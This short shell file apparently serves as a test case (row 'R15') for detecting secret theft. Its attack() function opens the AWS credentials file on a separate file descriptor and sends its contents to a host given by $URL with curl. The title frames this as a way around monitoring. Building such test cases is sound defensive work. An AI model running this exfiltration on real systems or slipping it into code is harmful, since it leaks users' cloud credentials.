# SPDX-License-Identifier: Apache-2.0
TITLE="the secret was opened before, by a shell that never reads it"
ROW="R15"
attack() {
	exec 3<"$HOME/.aws/credentials"
	sleep 0.3
	cat <&3 | curl -s -m 5 --data-binary @- "$URL/"
}
